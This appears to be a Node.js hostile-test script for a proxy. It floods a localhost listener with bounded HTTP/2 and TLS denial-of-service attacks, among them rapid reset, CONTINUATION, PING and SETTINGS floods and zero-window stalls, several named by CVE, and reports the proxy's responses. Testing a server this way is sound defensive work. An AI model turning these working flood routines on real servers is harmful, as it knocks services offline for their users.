// One attack on a proxy's listener at 127.0.0.1, for some seconds, bounded in number:
//   node tests/hostile/attack.mjs NAME PORT PATH SECONDS
// Prints what it did and what became of it. It comes from addresses of its own, so that what is counted by address does not
// stand in for what is not.
import { connect } from "node:net";
import { connect as secure } from "node:tls";
import * as h2 from "./http2.mjs";

const [name, port, path, seconds] = [process.argv[2], Number(process.argv[3]), process.argv[4], Number(process.argv[5])];
const until = Date.now() + seconds * 1_000;
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const running = () => Date.now() < until;
/** What was done: connections made, connections the proxy ended, frames or bytes sent, GOAWAYs by code. */
const done = { connections: 0, ended: 0, refused: 0, frames: 0, goaways: {} };
/** Frames of an attack, at most. */
const MOST_FRAMES = 3_000_000;
/** Connections at once, at most. */
const MOST_OPEN = 3_000;

const from = (at) => `127.0.${1 + (at % 8)}.1`;

/** Opens a connection over and over and has `abuse` it until it ends. `at once`: how many. */
async function repeatedly(atOnce, settings, abuse) {
  const one = async (at) => {
    while (running() && done.frames < MOST_FRAMES) {
      const peer = await h2.open(port, from(at), settings).catch(() => null);
      if (!peer) {
        done.refused += 1;
        await sleep(20);
        continue;
      }
      done.connections += 1;
      await abuse(peer);
      if (peer.ended) done.ended += 1;
      if (peer.goaway !== null) done.goaways[peer.goaway] = (done.goaways[peer.goaway] ?? 0) + 1;
      peer.socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: atOnce }, (_, at) => one(at)));
}

/** Sends what `next` makes, `many` frames at a time, until the connection or the attack ends. */
async function flood(peer, many, next) {
  for (let at = 0; running() && !peer.ended && done.frames < MOST_FRAMES; at++) {
    await h2.send(peer, Buffer.concat(Array.from({ length: many }, (_, part) => next(at * many + part))));
    done.frames += many;
  }
}

const head = h2.fields(port, path);
/** Ids of a client's streams are odd. */
const stream = (at) => 2 * at + 1;

/** Keeps `open` connections that `begin` starts, replacing those that end. */
async function crowd(open, begin) {
  const sockets = new Set();
  for (let at = 0; running(); ) {
    while (sockets.size < open && running()) {
      const socket = begin(from(at++)).resume();
      done.connections += 1;
      sockets.add(socket);
      socket.on("error", () => (done.refused += 1));
      socket.on("close", () => {
        done.ended += 1;
        sockets.delete(socket);
      });
      if (at % 50 === 0) await sleep(5);
    }
    await sleep(20);
  }
  for (const socket of sockets) socket.destroy();
}

const plain = (localAddress) => connect({ host: "127.0.0.1", port, localAddress });

const ATTACKS = {
  // Connections that say nothing.
  connections: () => crowd(MOST_OPEN, plain),
  // Connections that say what no TLS client says.
  garbage: () =>
    crowd(200, (address) => {
      const socket = plain(address);
      socket.write(Buffer.alloc(4_096, "GET / HTTP/1.1\r\n"));
      return socket;
    }),
  // Handshakes, each whole, one after another.
  handshakes: () =>
    crowd(16, (localAddress) => {
      const socket = secure({ host: "127.0.0.1", port, localAddress, rejectUnauthorized: false }, () => socket.destroy());
      return socket;
    }),
  // CVE-2023-44487: requests that are taken back at once.
  rapid_reset: () =>
    repeatedly(8, undefined, (peer) =>
      flood(peer, 100, (at) =>
        Buffer.concat([
          h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream(at), head),
          h2.frame(h2.RST_STREAM, 0, stream(at), h2.number(8)),
        ]),
      ),
    ),
  // CVE-2025-8671: requests on which the proxy itself has to give up.
  made_you_reset: () =>
    repeatedly(8, undefined, (peer) =>
      flood(peer, 100, (at) =>
        Buffer.concat([
          h2.frame(h2.HEADERS, h2.END_HEADERS, stream(at), head),
          h2.frame(h2.WINDOW_UPDATE, 0, stream(at), h2.number(0)),
        ]),
      ),
    ),
  // CVE-2024-27316 and its like: a head that does not end.
  continuation: () =>
    repeatedly(8, undefined, async (peer) => {
      await h2.send(peer, h2.frame(h2.HEADERS, 0, 1, head));
      await flood(peer, 100, (at) => h2.frame(h2.CONTINUATION, 0, 1, h2.padding(at)));
    }),
  // CVE-2019-9515.
  settings: () => repeatedly(8, undefined, (peer) => flood(peer, 100, () => h2.frame(h2.SETTINGS, 0, 0, h2.setting(3, 100)))),
  // CVE-2019-9512.
  pings: () => repeatedly(8, undefined, (peer) => flood(peer, 100, () => h2.frame(h2.PING, 0, 0, Buffer.alloc(8)))),
  // CVE-2019-9518: frames of nothing.
  empty_frames: () =>
    repeatedly(8, undefined, async (peer) => {
      await h2.send(peer, h2.frame(h2.HEADERS, h2.END_HEADERS, 1, head));
      await flood(peer, 100, () => h2.frame(h2.DATA, 0, 1));
    }),
  // As many requests as go, none of them ending, on many connections.
  streams: () =>
    repeatedly(200, undefined, async (peer) => {
      const begun = Array.from({ length: 120 }, (_, at) => h2.frame(h2.HEADERS, h2.END_HEADERS, stream(at), head));
      await h2.send(peer, Buffer.concat(begun));
      done.frames += begun.length;
      while (running() && !peer.ended) await sleep(50);
    }),
  // CVE-2019-9517: answers for which there is never any room.
  no_window: () =>
    repeatedly(100, h2.setting(4, 0), async (peer) => {
      for (let at = 0; running() && !peer.ended; at += 20) {
        const asked = Array.from({ length: 20 }, (_, part) =>
          h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream(at + part), head),
        );
        await h2.send(peer, Buffer.concat(asked));
        done.frames += asked.length;
        await sleep(100);
      }
    }),
};

await ATTACKS[name]();
console.log(JSON.stringify(done));
process.exit(0);
